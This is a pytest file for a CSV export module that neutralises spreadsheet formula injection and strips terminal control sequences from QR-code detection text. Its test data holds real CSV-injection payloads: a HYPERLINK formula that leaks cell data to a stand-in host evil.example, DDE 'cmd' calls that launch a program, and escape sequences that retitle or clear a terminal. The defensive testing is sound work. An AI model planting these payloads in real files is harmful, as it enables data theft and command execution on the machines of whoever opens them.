"""detections.csv text cells: formulas neutralised, control characters stripped, numbers
(negative ones included) left as numbers."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from app.adapters.exports.csv_cells import strip_control, text_cell
from app.adapters.exports.detections_csv import DetectionsCsvSink
from app.adapters.storage.in_memory import InMemoryStorage
from app.domain.detections import Detection
from app.domain.exports import EXPORT_BY_NAME
from app.domain.frames import Frame

pytestmark = pytest.mark.unit

# The payloads a hostile QR code carried into the text column.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(payload):
    assert text_cell(payload) == "'" + payload


@pytest.mark.parametrize("payload", ["\r=1+1", "\x1b[2J=1+1", "\x00=1+1"])
def test_a_formula_hidden_behind_a_control_character_is_still_neutralised(payload):
    assert text_cell(payload) == "'=1+1"


def test_escape_sequences_and_control_characters_are_removed_whole():
    title = "\x1b]0;pwned\x07"  # OSC: set the terminal's title
    clear = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
    c1 = "\x9b31m"  # an 8-bit CSI
    assert strip_control(f"{title}a{clear}b{c1}c\x7fd\x85e\x00f") == "abcdef"
    assert strip_control("line 1\nline 2\tend\r\n") == "line 1\nline 2\tend\n"
    assert strip_control("zürich ✓ 2024 \u00a0") == "zürich ✓ 2024 \u00a0"


def test_plain_text_is_unchanged():
    for text in ("https://example.com/v/1", "JOB-7f3a", "a - b = c", ""):
        assert text_cell(text) == text


def test_the_sink_neutralises_text_columns_and_keeps_numbers_as_numbers():
    storage = InMemoryStorage()
    job = uuid.uuid4()
    sink = DetectionsCsvSink(storage, job)
    payloads = [*FORMULAS, "\x1b]0;pwned\x07JOB\x1b[2J-7"]
    detections = [Detection("qr", [0, -1, 2, 3], 0.5, text=text) for text in payloads]
    sink.add(Frame(0, 0, None, detections=detections))
    sink.add(Frame(1, 40, None, detections=[Detection("=1+1", [-1, 2, 3, 4])]))
    sink.close({})
    text = storage.load_file(EXPORT_BY_NAME["detections.csv"].key(job)).decode()
    assert "\x1b" not in text and "\x07" not in text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "frame_index"
    assert [row[9] for row in rows[1:-1]] == ["'" + p for p in FORMULAS] + ["JOB-7"]
    assert all(row[5] == "-1" and row[8] == "0.5" for row in rows[1:-1])  # numbers stay numbers
    assert rows[-1][2] == "'=1+1" and rows[-1][4] == "-1"
    # The neutralised cells are quoted in the file itself, as OWASP recommends.
    assert "\"'=cmd|' /C calc'!A0\"" in text
    assert text.splitlines()[-1].startswith('1,40,"\'=1+1","",-1,2,3,4,')
